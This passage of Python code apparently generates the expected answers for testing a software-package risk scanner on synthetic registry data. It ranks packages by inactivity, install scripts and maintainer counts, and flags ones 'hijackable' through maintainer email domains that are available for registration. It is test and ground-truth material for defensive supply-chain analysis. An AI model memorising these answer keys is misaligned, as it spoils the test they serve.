    contrib_count: int,
    available_domains: list[str],
    with_maintainers: bool,
) -> dict:
    """Recompute every expected scanner output from the built metadata with
    straightforward brute force, independent of the scanner code paths.
    Ranking plants are asserted against the recomputation so a margin
    violation fails generation instead of hiding."""
    name = lambda i: packages[i].name  # noqa: E731
    n_retained = len(retained)
    window = timedelta(days=plan.inactivity_days)

    def is_old(dt: datetime) -> bool:
        return (REFERENCE_TIME - dt) > window

    def is_deprecated(pkg: _Package) -> bool:
        return pkg.deprecated is True or (isinstance(pkg.deprecated, str) and pkg.deprecated != "")

    # Exclusion ground truth from raw metadata.
    excluded_by_reason: dict[str, list[str]] = {"SecurityHolding": [], "DeprecatedUnused": [], "NoRepoNoLicense": []}
    exclusion_reasons: dict[str, list[str]] = {}
    for i in excluded_all:
        pkg = packages[i]
        reasons = []
        if pkg.security_holding or "security holding package" in pkg.description.lower():
            reasons.append("SecurityHolding")
        if is_deprecated(pkg):
            reasons.append("DeprecatedUnused")
        license_text = "" if pkg.license is None else str(pkg.license).strip()
        if pkg.repo_shape == "none" and (not license_text or license_text.upper() in _INVALID_LICENSE_SET):
            reasons.append("NoRepoNoLicense")
        for reason in reasons:
            excluded_by_reason[reason].append(name(i))
        exclusion_reasons[name(i)] = reasons

    # Per-signal member sets over the retained corpus.
    inactive = sorted(name(i) for i in retained if is_old(packages[i].last_modified))
    maint_last = {key: max(packages[i].last_modified for i in pkgs) for key, pkgs in owned.items()}
    stale_keys = {key for key, last in maint_last.items() if is_old(last)}
    inactive_maintainer = sorted(
        name(i)
        for i in retained
        if packages[i].maintainers
        and is_old(packages[i].last_modified)
        and all(key in stale_keys for key in packages[i].maintainers)
    )
    deprecated_retained = sorted(
        name(i) for i in retained if is_deprecated(packages[i]) and is_old(packages[i].last_modified)
    )
    w2 = sorted(name(i) for i in retained if any("install" in k.lower() for k in packages[i].scripts))
    keyword_categories = {name(i): packages[i].malicious_category for i in retained if packages[i].malicious_category}

    w4_scored = [(name(i), float(len(packages[i].maintainers))) for i in retained if packages[i].maintainers]
    w4 = sorted(_take_top_closed(w4_scored, k4)) if k4 else []
    if k4 and set(w4) != {name(i) for i in planted_w4}:
        raise PlanError("many-maintainer ranking separation violated; check plan margins")

    w5_scored = [
        (name(i), -(len(packages[i].maintainers) / packages[i].contributors))
        for i in retained
        if packages[i].contributors
    ]
    w5 = sorted(_take_top_closed(w5_scored, k5)) if k5 else []
    if k5 and set(w5) != {name(i) for i in planted_w5}:
        raise PlanError("contributor-ratio ranking separation violated; check plan margins")

    reach: dict[str, int] = {}
    for key, pkgs in owned.items():
        union: set[int] = set()
        for i in pkgs:
            union.update(dependents_of.get(i, ()))
        reach[key] = len(union)
    k6_actual = math.ceil(plan.top_percent / 100.0 * len(owned)) if (with_maintainers and w6_keys) else 0
    w6_maintainers = sorted(_take_top_closed(list(reach.items()), k6_actual)) if k6_actual else []
    if k6_actual and set(w6_maintainers) != set(w6_keys):
        raise PlanError("overloaded-maintainer reach separation violated; check plan margins")
    w6_packages = sorted({name(i) for key in w6_maintainers for i in owned.get(key, ())})

    w1_pairs = sorted(
        (key, name(i))
        for key in w1_keys
        if key in owned and key.split("@", 1)[1] in available_domains
        for i in owned[key]
    )
    w1_packages = sorted({pkg for _key, pkg in w1_pairs})

    # Popular sample recomputed honestly from quotas/downloads.
    dep_scored = [(name(i), float(len(dependents_of.get(i, ())))) for i in retained]
    popular_dep = _take_top_closed(dep_scored, popular_n)
    dl_scored = [(name(i), float(packages[i].downloads)) for i in retained]
    popular_dl = _take_top_closed(dl_scored, popular_n)
    if with_maintainers and planted_popular_dep:
        if set(popular_dep) != {name(i) for i in planted_popular_dep}:
            raise PlanError("popular-by-dependents separation violated; check plan margins")
        if set(popular_dl) != {name(i) for i in planted_popular_dl}:
            raise PlanError("popular-by-downloads separation violated; check plan margins")
    popular_members = sorted(set(popular_dep) | set(popular_dl))
    scope = set(popular_members)

    sets = {
        "W1": set(w1_packages),
        "W2": set(w2),
        "W3": set(inactive),
        "W4": set(w4),
        "W6": set(w6_packages),
    }
    combos = {}
    for combo in (
        ("W3", "W6"),
        ("W3", "W4", "W6"),
        ("W1", "W3", "W6"),
        ("W2", "W3", "W6"),
        ("W3", "W4"),
        ("W2", "W3"),
        ("W1", "W6"),
        ("W2", "W6"),
    ):
        members = scope.copy()
        for signal in combo:
            members &= sets[signal]
        combos["+".join(sorted(combo))] = {"count": len(members), "members": sorted(members)}

    hijackable = sorted(set(w1_packages) & set(inactive))
    stale_overloaded = [key for key in w6_maintainers if key in stale_keys]
    takeover = sorted({name(i) for key in stale_overloaded for i in owned[key]})

    mean_maint = sum(len(packages[i].maintainers) for i in retained) / n_retained if n_retained else 0.0

    return {
        "schema_version": MANIFEST_SCHEMA_VERSION,
        "seed": plan.seed,
        "plan": plan.to_dict(),
        "reference_time": format_timestamp(REFERENCE_TIME),
        "counts": {
            "packages": plan.package_count,
            "retained": n_retained,
            "excluded": len(excluded_all),
            "maintainers": len(owned),
            "stale_maintainers": len(stale_keys),
            "popular_n": popular_n,
        },
        "exclusions": {
            "excluded": sorted(name(i) for i in excluded_all),
            "by_reason": {k: sorted(v) for k, v in excluded_by_reason.items()},
            "reasons": dict(sorted(exclusion_reasons.items())),
            "retained_with_reasons": sorted(
                name(i) for i in retained if "security holding package" in packages[i].description.lower()
            ),
        },
        "signals": {
            "W1": {
                "packages": w1_packages,
                "pairs": [list(p) for p in w1_pairs],
                "available_domains": available_domains,
            },
            "W2": {"packages": w2, "with_tokens": sorted(keyword_categories)},
            "W3_inactive_pkg": {"packages": inactive},
            "W3_inactive_maintainer": {"packages": inactive_maintainer},
            "W3_deprecated": {"packages": deprecated_retained},
            "W4": {"packages": w4},
            "W5": {"packages": w5, "population": contrib_count},
            "W6": {"maintainers": w6_maintainers, "packages": w6_packages},
        },
        "popular": {
            "members": popular_members,
            "by_dependents": sorted(popular_dep),
            "by_downloads": sorted(popular_dl),
            "source_counts": {
                "by_dependents": len(popular_dep),
                "by_downloads": len(popular_dl),
                "union": len(popular_members),
            },
        },
        "combinations": combos,
        "pipelines": {"hijackable": hijackable, "takeover": takeover},
        "keyword_hunt": {"packages": sorted(keyword_categories), "categories": keyword_categories},
        "stats": {
            "mean_maintainers": mean_maint,
            "w2_share": len(w2) / n_retained if n_retained else 0.0,
            "inactive_share": len(inactive) / n_retained if n_retained else 0.0,
            "contributor_share": contrib_count / n_retained if n_retained else 0.0,
        },
    }
